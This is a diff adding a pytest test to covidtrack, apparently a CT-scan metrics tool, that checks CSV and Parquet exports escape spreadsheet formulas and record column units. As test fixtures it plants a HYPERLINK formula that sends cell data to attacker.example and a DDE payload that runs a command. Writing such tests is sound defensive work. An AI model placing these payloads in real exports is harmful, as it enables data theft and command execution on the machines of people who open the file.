@@ -578,3 +578,32 @@ def test_ingest_warns_about_the_public_default_salt(monkeypatch: pytest.MonkeyPa
     monkeypatch.setenv("COVIDTRACK_SALT", "a-site-secret")
     _warn_default_salt()
     assert capsys.readouterr().err == ""
+
+
+def test_export_is_safe_in_a_spreadsheet_and_says_its_units(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    import csv
+
+    from covidtrack.report.synthetic import populate_store
+
+    monkeypatch.setenv("COVIDTRACK_HOME", str(tmp_path / "home"))
+    with S.Store.open() as store:
+        keys = populate_store(store, n_patients=3, n_scans=1, shape=(24, 64, 64))
+        store.set_patient(keys[0], alias='=HYPERLINK("https://attacker.example/?d="&A2,"open")')
+        store.set_patient(keys[1], arm="+cmd|' /C calc'!A0")
+        paths = export_metrics(tmp_path / "csv", "csv", store=store)
+        export_metrics(tmp_path / "pq", "parquet", store=store)
+    assert [p.name for p in paths] == ["metrics_long.csv", "metrics_wide.csv", "metrics_units.csv"]
+    for path in paths:
+        with open(path, newline="", encoding="utf-8") as fh:
+            cells = [c for row in csv.reader(fh) for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "@")], path.name
+        assert "'=HYPERLINK" in " ".join(cells) or path.name == "metrics_units.csv"  # shown as text, not dropped
+    long = pd.read_parquet(tmp_path / "pq" / "metrics_long.parquet")
+    wide = pd.read_parquet(tmp_path / "pq" / "metrics_wide.parquet")
+    units = pd.read_parquet(tmp_path / "pq" / "metrics_units.parquet").set_index("column")["unit"]
+    # "no alias / no arm" is marked the same way in both tables
+    no_alias_long = set(long.loc[long["alias"].isna(), "patient_key"])
+    assert no_alias_long == set(wide.loc[wide["alias"].isna(), "patient_key"]) == set(keys[1:])
+    assert units["whole_poi"] == "%" and units["whole_infection_volume"] == "mL" and units["whole_infection_mean_hu"] == "HU"
+    assert set(wide.columns) - set(units.index) == {"patient_key", "alias", "arm", "scan_id", "study_date", "day",
+                                                    "model_version", "seg_id", "kind"}
